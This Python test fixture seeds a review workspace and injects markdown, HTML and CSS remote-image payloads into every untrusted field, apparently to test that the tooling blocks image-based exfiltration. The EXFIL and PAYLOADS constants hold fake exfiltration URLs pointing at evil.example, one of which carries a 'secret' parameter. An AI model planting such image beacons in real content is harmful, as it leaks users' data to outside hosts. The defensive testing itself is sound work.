"""A seeded workspace whose untrusted text (query, constraints, documents, responses, notes) carries remote images."""

from __future__ import annotations

from sqlmodel import Session, select

from core.review.gold import draw_gold_sample, record_gold_label
from core.review.verification import record_verification
from core.store.models import Constraint, Document, Instance, Response
from tests.workspace_factories import Seeded, principal, seeded_db

EXFIL = "https://evil.example/exfil.png?secret=1"
IMAGE = f"![x]({EXFIL})"
PAYLOADS = {  # what each kind of untrusted text carries
    "markdown": f"see {IMAGE} and ![ref image][r]\n\n[r]: https://evil.example/ref.png",
    "html": f'<p>Grid <img src="https://evil.example/html.png" srcset="https://evil.example/2x.png 2x"> '
            f'<span style="background:url(https://evil.example/css.png)">styled</span></p>\n\n{IMAGE}',
    "table": f"| a | b |\n|---|---|\n| {IMAGE} | 2 |",
}


def poison(seeded: Seeded) -> None:
    """Put the payloads into every untrusted field of E-noisy and E-conflict and into every response."""
    text = PAYLOADS["markdown"]
    with Session(seeded.engine) as s:
        for uid in ("E-noisy", "E-conflict"):
            inst = s.get(Instance, seeded.instances[uid])
            inst.query = f"{inst.query} {text}"
            s.add(inst)
            for c in s.exec(select(Constraint).where(Constraint.instance_id == inst.id)):
                c.text = f"{c.text} {IMAGE}"
                c.criterion = f"{c.criterion or ''} {IMAGE}".strip() if c.judge_method == "llm" else c.criterion
                s.add(c)
            for d in s.exec(select(Document).where(Document.instance_id == inst.id).order_by(Document.position)):
                d.title, d.source = f"Report {IMAGE}", IMAGE
                kind = {0: "html", 1: "table"}.get(d.position, "markdown")
                d.content_type = {"html": "html", "table": "markdown_table"}.get(kind, "text")
                d.text = PAYLOADS[kind]
                d.conflict_summary = f"{d.conflict_summary} {IMAGE}" if d.conflict_summary else None
                s.add(d)
        for r in s.exec(select(Response)):
            r.text = f"{r.text}\n\n{text}"
            s.add(r)
        s.commit()


def poisoned_db(folder) -> Seeded:
    """The seeded workspace, poisoned, with two disagreeing gold labels and two disagreeing verifications (notes too)."""
    seeded = seeded_db(folder)
    poison(seeded)
    draw_gold_sample(seeded.engine, principal("admin"), seeded.run_id, n=8, experts=["alice", "bob"])
    rid = seeded.responses[("model-a", "E-noisy")]
    record_gold_label(seeded.engine, principal("alice"), rid, {"constraints": {"c1": True, "c2": True}, "note": IMAGE}, "a")
    record_gold_label(seeded.engine, principal("bob"), rid, {"constraints": {"c1": False, "c2": True}, "note": IMAGE}, "b")
    for who, decision in (("alice", "accept"), ("bob", "reject")):
        record_verification(seeded.engine, principal(who), seeded.instances["E-conflict"], consistency="consistent",
                            context_valid=True, decision=decision, consistency_note=IMAGE, context_note=IMAGE,
                            client_token=f"v-{who}", overlap=1.0)
    return seeded
